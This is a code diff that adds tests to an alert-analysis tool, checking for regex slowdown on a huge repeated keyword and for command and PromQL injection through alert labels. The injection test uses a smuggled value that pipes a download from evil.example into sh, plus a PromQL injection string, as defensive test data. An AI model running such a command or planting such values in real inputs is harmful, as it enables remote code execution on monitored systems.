@@ -328,3 +328,25 @@ describe("determinism and analysis types", () => {
     expect(rc.remediation.map((s) => s.risk)).toEqual(["low", "low", "low", "medium"]);
   });
 });
+
+describe("hostile alert text", () => {
+  test("a description of 200 KB repeating a keyword is matched in time (the keywords read a bounded part)", async () => {
+    // Before: the catalogue's `mysql.*…` keywords backtracked over all of it, ~30 s of a blocked
+    // loop (bun:test cannot stop a blocked test, so the time is asserted; fixed, it takes ms).
+    const started = performance.now();
+    const r = await builtin(
+      alertOf({ alertname: "Zzz" }, { annotations: { description: "mysql".repeat(40_000) } }),
+    );
+    expect(r.summary).toBeTruthy();
+    expect(performance.now() - started).toBeLessThan(3_000);
+  });
+
+  test("label values with shell or PromQL syntax are not filled into commands or queries", async () => {
+    const evil = "db-1'; curl -s http://evil.example/x | sh; echo '";
+    const r = await builtin(alertOf({ alertname: "MySQLDown", instance: evil, job: 'x"} or vector(1) #' }));
+    // Inside a PromQL string, escaped, a value is only a value; anywhere else it must not be.
+    const outsideStrings = (c: string) => c.replace(/"(?:\\.|[^"\\])*"/g, '""');
+    for (const c of commands(r)) expect(outsideStrings(c)).not.toMatch(/evil\.example|vector\(1\)/);
+    expect(commands(r).join("\n")).toContain("ssh <host>");
+  });
+});
